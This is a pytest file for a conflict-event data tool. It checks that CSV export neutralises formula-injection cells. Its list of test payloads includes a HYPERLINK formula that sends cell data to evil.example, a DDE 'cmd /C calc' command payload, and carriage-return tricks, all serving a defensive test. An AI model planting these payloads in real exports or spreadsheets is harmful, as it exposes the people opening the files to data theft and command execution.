"""Hostile content on the way out: CSV cells that a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from rashomon.export import export_csv
from rashomon.model import Event
from rashomon.store import Store

# a bare carriage return would start a new row in a spreadsheet, the formula after it in a cell of its
# own: the export turns it into a quoted newline
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "Kharkiv\r=SUM(A1:A9)",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_csv_export_neutralises_formula_cells(tmp_path, payload):
    store = Store.open(tmp_path / "x.db")
    ev = Event(
        id="ev1",
        event_type="Battles",
        sub_event_type="Armed clash",
        date=date(2024, 5, 1),
        date_end=None,
        date_precision="day",
        historical=False,
        country="SDN",
        admin1=payload,
        location=payload,
        latitude=None,
        longitude=None,
        geo_precision=3,
        actor1=payload,
        actor2="Rapid Support Forces",
        explanation=[payload],
    )
    store.replace_events([ev], [])
    # read as a spreadsheet does: any CR, CRLF or LF outside quotes ends a row
    rows = list(csv.DictReader(io.StringIO(export_csv(store), newline=None)))
    assert len(rows) == 1
    for col in ("actor1", "location", "admin1"):
        cell = rows[0][col]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (col, cell)
        assert cell.lstrip("'") == payload.replace("\r", "\n")  # neutralised, not mangled
    assert rows[0]["actor2"] == "Rapid Support Forces"
